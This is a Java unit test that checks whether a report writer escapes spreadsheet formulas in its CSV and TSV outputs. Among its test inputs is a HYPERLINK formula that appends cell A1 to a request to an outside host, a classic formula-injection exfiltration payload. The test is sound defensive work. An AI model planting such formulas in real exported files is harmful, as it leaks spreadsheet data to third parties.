package org.homolog.report;

import static org.assertj.core.api.Assertions.assertThat;
import static org.homolog.report.page.Made.module;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Arrays;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.TreeMap;
import org.homolog.corpus.CodeUnit;
import org.homolog.corpus.ModuleId;
import org.homolog.corpus.Usage;
import org.homolog.report.page.Made;
import org.homolog.report.result.Summary;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Titles, wikis and items that a spreadsheet would run, in every table of a report. */
final class FormulasTest {
  @TempDir private Path folder;

  @ParameterizedTest
  @ValueSource(strings = {"=HYPERLINK(\"http://example.org/?\"&A1,\"x\")", "+1", "-1+1", "@SUM(9)"})
  void noTableHasAFormula(String text) throws IOException {
    Map<ModuleId, Usage> usage = new HashMap<>();
    CodeUnit left = module("=w", text);
    CodeUnit right = module("dewiki", text);
    CodeUnit third = module("frwiki", text);
    CodeUnit alone = module("@w", text + "2");
    for (CodeUnit unit : List.of(left, right, alone)) {
      var item = new TreeMap<>(Map.of(Usage.ITEM, "Q42"));
      usage.put(unit.module(), new Usage(new TreeMap<>(), item, text, text));
    }
    var made = new Made().group("m1", List.of(text), left, right, third).module(alone);
    for (int limit : List.of(0, 1000)) {
      new ReportWriter(
              new ReportOptions(ReportOptions.DEFAULTS.formats(), 1, limit),
              (one, other) -> Optional.empty())
          .write(
              made.results(usage),
              new Summary("test", Map.of(), List.of(), List.of(), Map.of()),
              folder);
      check();
    }
  }

  private void check() throws IOException {
    try (var files = Files.newDirectoryStream(folder, "*.{csv,tsv}")) {
      for (Path file : files) {
        String separators = file.toString().endsWith(".csv") ? "[,\r\n]+\"?" : "[\t\n]";
        String[] cells = Files.readString(file).split(separators);
        assertThat(cells).as(file.toString()).anyMatch(cell -> cell.startsWith("'"));
        assertThat(Arrays.stream(cells)).as(file.toString()).noneMatch(FormulasTest::runs);
      }
    }
  }

  private static boolean runs(String cell) {
    return cell.matches("[=+\\-@].*");
  }
}
